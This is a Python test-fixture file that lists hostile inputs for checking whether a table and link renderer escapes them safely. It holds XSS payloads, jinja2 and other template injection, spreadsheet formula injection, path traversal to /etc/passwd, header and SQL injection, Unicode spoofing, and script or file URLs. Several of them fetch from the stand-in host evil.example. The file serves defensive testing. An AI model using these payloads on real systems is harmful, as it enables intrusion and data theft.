"""Texts that mean harm, each with what it tries; every one of them is a legal cell of a table and a legal value in a link.

What would run sets `window.harm` or fetches from evil.example, so that a browser shows whether it did.
"""

HARM = "evil.example"

TEXTS = {
    "script": "<script>window.harm = 1</script>",
    "script that ends another": "</script><script src=https://evil.example/a.js></script>",
    "script that ends a style": "</style></title></textarea><script>window.harm = 2</script>",
    "image with a handler": '"><img src=https://evil.example/a.png onerror="window.harm = 3">',
    "attribute with a handler": "' autofocus onfocus='window.harm = 4' x='",
    "drawing with a handler": "<svg onload='window.harm = 5'><script>window.harm = 6</script></svg>",
    "frame": "<iframe srcdoc='<script>top.harm = 7</script>' src=https://evil.example></iframe>",
    "form": "<form action=https://evil.example><button formaction=javascript:window.harm=8>Go</button></form>",
    "base and refresh": "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "style that fetches": "<style>@import 'https://evil.example/a.css'; body { display: none }</style>",
    "entity that was escaped once": "&lt;img src=x onerror=window.harm=9&gt;&#60;script&#62;",
    "Markdown image": "![x](https://evil.example/a.png)",
    "Markdown link": "[press](javascript:window.harm=10) <https://evil.example>",
    "Markdown that is a heading, code, a rule": "# H `code` *** ~~~ | a | b |",
    "Streamlit's directives": ":red[x] :material/home: :streamlit: $\\frac{1}{0}$ $$x$$",
    "template of jinja2": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# x #}",
    "template of others": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.harm=11')()}}",
    "template of plotly": "%{x} %{customdata[0]} <b>b</b><br><a href='javascript:window.harm=12'>x</a>",
    "formula": '=HYPERLINK("https://evil.example","x")',
    "formula with a sign": "+1+1|'cmd'!A1 @SUM(A1) -1",
    "overridden direction": "\u202egnp.exe\u202c \u2066left\u2069 \u200f",
    "direction that is never given back": "\u202e\u2067\u202b turned",
    "right to left": "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd 123 (abc)",
    "signs without width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
    "marks upon marks": "Z" + "\u0300\u0301\u0302\u0303\u0304\u0306\u0307\u0308" * 12 + "algo",
    "emoji in sequence": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "flags and halves of flags": "\U0001f1f0\U0001f1f7\U0001f1f0 \U0001f1fa",
    "letters that look alike": "\u0420\u0443\u0441\u0441ia p\u0430ypal",
    "letters of the astral planes": "\U0001d54f\U00020000\U0010fffd",
    "a word without end": "W" * 3000,
    "a right-to-left word without end": "\u0634" * 1500,
    "an address without end": "https://evil.example/" + "a" * 2000,
    "many lines' worth of spaces": "a" + "\u00a0" * 400 + "b",
    "path": "../../../../etc/passwd%00.csv\\..\\..",
    "header": "x%0d%0aSet-Cookie:%20a=b",
    "query": "' OR 1=1; DROP TABLE events; --",
}

REFUSED_ADDRESSES = {
    "script": "javascript:window.harm=13",
    "script in other letters": "JaVaScRiPt://evil.example/%0awindow.harm=13",
    "script with a tab in it": "java\tscript:window.harm=13",
    "page in itself": "data:text/html,<script>top.harm=13</script>",
    "picture in itself": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.harm=13'/>",
    "Basic": "vbscript:msgbox(13)",
    "source of a page": "view-source:https://evil.example",
    "file": "file:///etc/passwd",
    "no scheme": "//evil.example/a.js",
    "no host": "https:evil.example",
    "a host that is never closed": "https://[evil.example/",
    "a host that is another in plain letters": "https://evil.example\uff03@example.org/",
}
"""What is no web address: a row that has one of them as an address is withheld."""
